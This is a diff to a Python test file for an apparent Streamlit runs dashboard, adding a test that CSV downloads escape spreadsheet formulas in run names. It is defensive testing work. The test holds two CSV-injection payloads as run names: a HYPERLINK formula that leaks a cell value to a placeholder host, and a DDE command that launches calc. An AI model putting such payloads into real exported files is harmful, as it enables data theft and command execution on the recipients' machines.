@@ -3,13 +3,17 @@
 from __future__ import annotations
 
 import base64
+import io
 
 import numpy as np
+import pandas as pd
 import plotly.graph_objects as go
 import plotly.io as pio
 import pytest
+from streamlit.runtime.media_file_manager import MediaFileManager
 
 from tests.evalutil import write_evaluation
+from tests.ui.markup import shown
 from tlcore.evaluate import classification_metrics, mistakes
 from tlcore.store import RunStore
 
@@ -132,7 +136,7 @@ def _cells(fig: go.Figure) -> list[list[int]]:
 
 
 def _captions(at) -> str:
-    return "\n".join(c.value for c in at.caption)
+    return "\n".join(shown(c.value) for c in at.caption)
 
 
 @pytest.fixture
@@ -212,3 +216,25 @@ def test_equal_f1_says_so(app, ws, populated):
     assert not at.exception
     assert "have the same F1 on every class they share" in _captions(at)
     assert _values(_figures(at)["runs_f1_delta"].data[0].y) == [0.0, 0.0, 0.0]
+
+
+def test_csv_download_keeps_formula_like_names_as_text(app, populated, make_run, monkeypatch):
+    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
+    make_run(name=formula)
+    make_run(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    downloads = []
+    add = MediaFileManager.add
+
+    def record(self, path_or_data, mimetype, *args, **kwargs):
+        if mimetype == "text/csv":
+            downloads.append(path_or_data)
+        return add(self, path_or_data, mimetype, *args, **kwargs)
+
+    monkeypatch.setattr(MediaFileManager, "add", record)
+    at = app(RUNS)
+    assert not at.exception
+    table = pd.read_csv(io.BytesIO(downloads[-1]))
+    assert table["name"].to_list()[-2:] == ["'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert not table["name"].str.match(r"[=+\-@\t\r]").any()
+    # Numbers stay numbers: the spreadsheet still sums and sorts them.
+    assert pd.api.types.is_float_dtype(table["best_val_accuracy"])
